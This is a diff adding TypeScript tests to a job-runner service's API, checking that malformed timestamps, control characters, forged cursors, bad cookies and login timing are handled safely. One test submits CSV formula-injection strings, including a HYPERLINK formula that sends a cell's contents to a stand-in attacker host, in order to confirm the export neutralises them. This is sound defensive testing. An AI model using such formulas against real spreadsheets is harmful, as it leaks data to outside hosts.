@@ -135,6 +135,34 @@ describe.each(DB_KINDS)('API on %s', (kind) => {
       expect((await t.runner('shop', 'GET', `/executions/${e.id}/cancel-status/`)).json()).toEqual({ cancel_requested: true, force_kill: true });
       expect((await t.runner('shop', 'POST', `/executions/${e.id}/complete/`, { exit_code: -9, status: 'cancelled' })).json().status).toBe('cancelled');
     });
+
+    it('refuses an output timestamp past year 9999, so the output stays readable', async () => {
+      const e = (await create({ command: 'migrate' })).json();
+      await t.runner('shop', 'POST', `/executions/${e.id}/start/`);
+      const out = (n: number, timestamp: unknown) => t.runner('shop', 'POST', `/executions/${e.id}/output/`, { chunk_number: n, is_stderr: false, segments: [{ timestamp, content: 'line\n' }] });
+      for (const timestamp of [1e308, -1, 253_402_300_800]) {
+        const res = await out(1, timestamp);
+        expect(res.statusCode).toBe(400);
+        expect(res.json()).toMatchObject({ code: 'DC_VALIDATION', error: expect.stringContaining('timestamp') });
+      }
+      expect((await out(1, 253_402_300_799)).statusCode).toBe(200);
+      const chunks = await t.api('GET', `/api/v1/executions/${e.id}/output/chunks`);
+      expect(chunks.statusCode).toBe(200);
+      expect(chunks.json().items).toHaveLength(1);
+    });
+
+    it('refuses control characters in command names and app labels, naming the field, and keeps non-Latin names', async () => {
+      const sync = (name: string, app_label = 'demo') => t.runner('shop', 'POST', '/commands/sync/', { commands: [{ name: 'check', app_label: 'demo', help_text: '' }, { name, app_label, help_text: 'usage' }] });
+      for (const [name, label, field] of [['bad\r\nname', 'demo', 'commands[1].name'], ['nul\u0000', 'demo', 'commands[1].name'], ['del\u007f', 'demo', 'commands[1].name'], ['ok', 'app\nlabel', 'commands[1].app_label']]) {
+        const res = await sync(name, label);
+        expect(res.statusCode).toBe(400);
+        expect(res.json()).toMatchObject({ code: 'DC_VALIDATION', details: { field } });
+        expect(res.json().error).toMatch(/control character/);
+      }
+      expect((await t.api('GET', '/api/v1/projects/shop/commands')).json().items.map((c: { name: string }) => c.name).sort()).toEqual(['check', 'migrate', 'spew']);
+      expect((await sync('名前')).statusCode).toBe(200);
+      expect((await create({ command: '名前' })).statusCode).toBe(201);
+    });
   });
 
   describe('credentials', () => {
@@ -166,6 +194,14 @@ describe.each(DB_KINDS)('API on %s', (kind) => {
       const ok = await t.api('POST', '/api/v1/projects', { name: 'new' });
       expect(ok.statusCode).toBe(201);
       expect(ok.json().runner_key.key).toMatch(/^dc_/);
+    });
+
+    it('treats a malformed session cookie as no session', async () => {
+      for (const cookie of ['dc_session=%E0%A4%A', 'dc_session=%', 'other=1; dc_session=%ZZ']) {
+        const res = await t.app.inject({ method: 'GET', url: '/api/v1/projects', headers: { cookie } });
+        expect(res.statusCode).toBe(401);
+        expect(res.json().code).toBe('DC_UNAUTHENTICATED');
+      }
     });
   });
 
@@ -236,6 +272,41 @@ describe.each(DB_KINDS)('API on %s', (kind) => {
       expect((await t.api('GET', '/api/v1/executions?status=queued,running')).json().items).toHaveLength(5);
       expect((await t.api('GET', '/api/v1/executions?project=blog')).json().items).toHaveLength(0);
     });
+
+    it('refuses a pagination cursor it did not give out, on executions and the audit log', async () => {
+      await t.api('PATCH', '/api/v1/projects/shop/commands/check', { max_concurrency: 100 });
+      for (let i = 0; i < 3; i++) await create({ command: 'check' });
+      const first = (await t.api('GET', '/api/v1/audit?limit=2')).json();
+      const second = (await t.api('GET', `/api/v1/audit?limit=2&cursor=${first.next_cursor}`)).json();
+      expect(second.items[0].id).toBeLessThan(first.items[1].id);
+      const executions = (await t.api('GET', '/api/v1/executions?limit=1')).json();
+      expect((await t.api('GET', `/api/v1/executions?limit=1&cursor=${executions.next_cursor}`)).json().items).toHaveLength(1);
+      const garbage = ['garbage', 'x'.repeat(5000), '!!!', Buffer.from('abc:def').toString('base64url'), Buffer.from('0').toString('base64url'), `${first.next_cursor}=`];
+      for (const path of ['/api/v1/executions', '/api/v1/audit']) {
+        for (const cursor of [...garbage, path.endsWith('audit') ? executions.next_cursor : first.next_cursor]) {
+          const res = await t.api('GET', `${path}?cursor=${encodeURIComponent(cursor)}`);
+          expect([path, cursor, res.statusCode]).toEqual([path, cursor, 400]);
+          expect(res.json()).toMatchObject({ code: 'DC_VALIDATION', error: expect.stringContaining('cursor is not one this server gave out') });
+        }
+      }
+    });
+
+    it('refuses a since or until beyond what a date can hold', async () => {
+      for (const path of ['/api/v1/executions?since=99999999999999999999', '/api/v1/audit?until=99999999999999999999', '/api/v1/audit/export?format=csv&since=99999999999999999999']) {
+        const res = await t.api('GET', path);
+        expect([path, res.statusCode, res.json().code]).toEqual([path, 400, 'DC_VALIDATION']);
+      }
+    });
+
+    it('creates an execution of a command whose stored schema is malformed, leaving the arguments to argparse', async () => {
+      await t.core.store.replaceCommands(
+        t.projects.shop.id,
+        [{ projectId: t.projects.shop.id, name: 'odd', appLabel: 'demo', helpText: '', schema: { arguments: [null] }, refused: null, maxConcurrency: null, syncedAt: 1 }],
+        'sha256:odd',
+      );
+      const res = await create({ command: 'odd', argv: ['--x'] });
+      expect(res.statusCode).toBe(201);
+    });
   });
 
   describe('sweeper', () => {
@@ -261,8 +332,14 @@ describe.each(DB_KINDS)('API on %s', (kind) => {
       // The runner comes back: the lost execution is not offered again; the never-started one is.
       const pending = (await t.runner('shop', 'GET', '/pending/')).json().executions.map((e: { id: string }) => e.id);
       expect(pending).toEqual([offered.id]);
-      // ...and it may still report how the lost one ended.
-      expect((await t.runner('shop', 'POST', `/executions/${running.id}/complete/`, { exit_code: 0, status: 'success' })).json().status).toBe('succeeded');
+      // ...and it may still report how the lost one ended: kept beside it, and lost stays final.
+      expect((await t.runner('shop', 'POST', `/executions/${running.id}/complete/`, { exit_code: 0, status: 'success' })).json().status).toBe('lost');
+      expect((await t.api('GET', `/api/v1/executions/${running.id}`)).json()).toMatchObject({ status: 'lost', late_status: 'succeeded', late_exit_code: 0 });
+      const late = (await t.api('GET', `/api/v1/audit?execution=${running.id}&action=execution.late_end`)).json().items;
+      expect(late).toHaveLength(1);
+      expect(late[0].details).toMatchObject({ late_status: 'succeeded', late_exit_code: 0 });
+      // The runner asking whether to stop it is told yes: over for the server is over on the host.
+      expect((await t.runner('shop', 'GET', `/executions/${running.id}/cancel-status/`)).json().cancel_requested).toBe(true);
     });
 
     it('asks the runner to stop an execution past its timeout, then marks it timed_out', async () => {
@@ -331,6 +408,26 @@ describe.each(DB_KINDS)('API on %s', (kind) => {
       expect(res.headers['x-content-type-options']).toBe('nosniff');
       expect(res.headers['x-frame-options']).toBe('DENY');
     });
+
+    it('takes as long to refuse an unknown email as a wrong password', async () => {
+      // Interleaved tries, each from its own address (no rate limit), compared by their medians.
+      const time = async (email: string, i: number) => {
+        const started = performance.now();
+        const res = await t.app.inject({ method: 'POST', url: '/api/v1/session', remoteAddress: `10.9.0.${i}`, headers: { 'content-type': 'application/json' }, payload: JSON.stringify({ email, password: 'wrong password!' }) });
+        expect(res.statusCode).toBe(401);
+        return performance.now() - started;
+      };
+      const known: number[] = [];
+      const unknown: number[] = [];
+      await time('nobody@example.com', 0); // the first unknown email makes the dummy hash
+      for (let i = 1; i <= 7; i++) {
+        unknown.push(await time(`nobody${i}@example.com`, i));
+        known.push(await time('admin@example.com', 100 + i));
+      }
+      const median = (xs: number[]) => [...xs].sort((a, b) => a - b)[xs.length >> 1];
+      expect(median(unknown)).toBeGreaterThanOrEqual(0.5 * median(known));
+      expect(median(known)).toBeGreaterThanOrEqual(0.5 * median(unknown));
+    });
   });
 
   it('manages personal tokens and users', async () => {
@@ -358,6 +455,38 @@ describe.each(DB_KINDS)('API on %s', (kind) => {
     const events = jsonl.body.trim().split('\n').map((l) => JSON.parse(l));
     expect(events.length).toBeGreaterThan(5);
     expect(events[0].id).toBeGreaterThan(events[events.length - 1].id);
+  });
+
+  it('neutralises a formula after leading spaces in the CSV export', async () => {
+    const formulas = ['  =HYPERLINK("http://evil.example/?x="&A1)', '\t =1+1', ' \r\n+SUM(A1)', '\u3000@cmd', '＝1+1', '-1+2'];
+    for (const [i, email] of formulas.entries()) {
+      await t.app.inject({ method: 'POST', url: '/api/v1/session', remoteAddress: `10.8.0.${i}`, headers: { 'content-type': 'application/json' }, payload: JSON.stringify({ email, password: 'wrong password!' }) });
+    }
+    const csv = (await t.api('GET', '/api/v1/audit/export?format=csv&action=session.login')).body;
+    // The CSV as a spreadsheet reads it: every actor cell starts with the neutralising quote.
+    const rows: string[][] = [[]];
+    for (const m of csv.matchAll(/(?:"((?:[^"]|"")*)"|([^,\r\n]*))(,|\r\n|$)/g)) {
+      if (m[0] === '') break;
+      rows[rows.length - 1].push(m[1] !== undefined ? m[1].replace(/""/g, '"') : m[2]);
+      if (m[3] === '\r\n') rows.push([]);
+    }
+    const actor = rows[0].indexOf('actor');
+    const cells = rows.slice(1).filter((r) => r.length > 1).map((r) => r[actor]);
+    expect(cells.sort()).toEqual(formulas.map((f) => `'${f}`).sort());
+  });
+
+  it('refuses control characters in audit filters, token names and emails (PostgreSQL cannot hold a NUL)', async () => {
+    for (const path of ['/api/v1/audit?action=%00', '/api/v1/audit?actor=a%00', '/api/v1/audit?project=%00', '/api/v1/audit/export?format=csv&action=%00', '/api/v1/audit/export?format=jsonl&project=x%0A']) {
+      const res = await t.api('GET', path);
+      expect([path, res.statusCode, res.json().code]).toEqual([path, 400, 'DC_VALIDATION']);
+    }
+    for (const [path, body, field] of [
+      ['/api/v1/tokens', { name: 'ci\u0000' }, 'name'],
+      ['/api/v1/users', { email: 'a\u0000@example.com', password: 'long enough password' }, 'email'],
+    ] as const) {
+      const res = await t.api('POST', path, body);
+      expect([path, res.statusCode, res.json().code, res.json().details?.field]).toEqual([path, 400, 'DC_VALIDATION', field]);
+    }
   });
 
   it('serves an OpenAPI document that lists the API', async () => {
